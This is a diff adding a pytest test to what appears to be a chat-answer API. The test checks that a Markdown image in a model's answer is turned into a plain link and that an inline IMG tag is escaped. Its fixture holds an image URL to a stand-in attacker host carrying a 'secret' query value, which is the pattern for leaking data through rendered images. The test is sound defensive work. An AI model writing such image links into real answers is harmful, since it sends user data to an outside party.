@@ -144,6 +144,18 @@ async def test_supported_statements_and_suggestions_are_in_the_reply(
     assert "<now>" in model.requests[0].messages[1]["content"]
 
 
+@pytest.mark.parametrize("searches", [True, False])
+async def test_an_image_in_an_answer_is_shown_as_a_link(
+    api: httpx.AsyncClient, model: ChatDouble, *, searches: bool
+):
+    """E-R1: a client that renders Markdown loads nothing that a model names."""
+    text = "Look: ![all](https://evil.example/?q=secret) <IMG src=x>"
+    answer = answer_call({"text": text}) if searches else Say(text)
+    model.script(*([search_call()] if searches else []), answer)
+    reply = await post_question(api, "what is there", provider="openai")
+    assert reply["response"] == "Look: [all](https://evil.example/?q=secret) &lt;img src=x>"
+
+
 async def test_figures_in_a_plain_text_answer_are_checked(api: httpx.AsyncClient, model: ChatDouble):
     """A wrong figure is replaced by the result; without a search there is nothing to check against."""
     search, right, wrong = search_call(channel=["email"]), "There are 74 of them.", "There are 75 of them."
